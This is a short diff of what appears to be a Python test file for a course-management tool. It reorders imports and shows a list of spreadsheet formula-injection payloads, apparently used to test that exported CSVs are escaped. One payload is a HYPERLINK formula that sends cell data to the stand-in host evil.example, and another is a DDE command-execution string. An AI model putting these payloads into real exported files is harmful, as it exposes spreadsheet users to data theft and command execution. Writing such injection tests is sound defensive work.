@@ -24,9 +24,11 @@ from grucourse.cli import main
 from grucourse.pipeline.course_copy import copy_course
 from grucourse.pipeline.report import build_report
 from grucourse.pipeline.report_data import CheckRow, ScoreRow, write_csv
-from grucourse.quiz.item_analysis import ItemStats, write_csv as write_items
+from grucourse.quiz.item_analysis import ItemStats
+from grucourse.quiz.item_analysis import write_csv as write_items
 from grucourse.quiz.simulate import make_quiz_submission
-from grucourse.similarity.report import Row, write_csv as write_pairs
+from grucourse.similarity.report import Row
+from grucourse.similarity.report import write_csv as write_pairs
 from grucourse.terminal import escape_log_records, printable, rich_text
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
